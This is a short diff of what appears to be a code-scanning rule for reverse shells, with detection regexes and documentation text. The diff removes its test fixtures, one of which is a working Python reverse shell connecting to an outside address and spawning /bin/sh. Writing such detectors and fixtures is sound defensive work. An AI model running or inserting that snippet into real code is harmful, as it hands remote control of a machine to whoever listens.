@@ -10,18 +10,6 @@ export const reverseShell: CodeSign = {
     strength: 'strong',
     benignRate: 0.5,
     docs: 'Whoever is at the other end has the machine. Debuggers and terminals use the parts, not all of them in one function.',
-    bad: {
-      files: {
-        'acme/tool.py':
-          "import os, pty, socket\ndef go():\n    s = socket.socket()\n    s.connect(('203.0.113.9', 4444))\n    os.dup2(s.fileno(), 0)\n    pty.spawn('/bin/sh')\n",
-      },
-    },
-    good: {
-      files: {
-        'acme/tool.py':
-          "import os, socket, subprocess\ndef probe(host):\n    socket.create_connection((host, 80))\ndef shell():\n    subprocess.call(['/bin/sh'])\n",
-      },
-    },
   },
   trigger: /\bdup2\b|\bstdin\s*=/,
   alsoTrigger: /socket/,
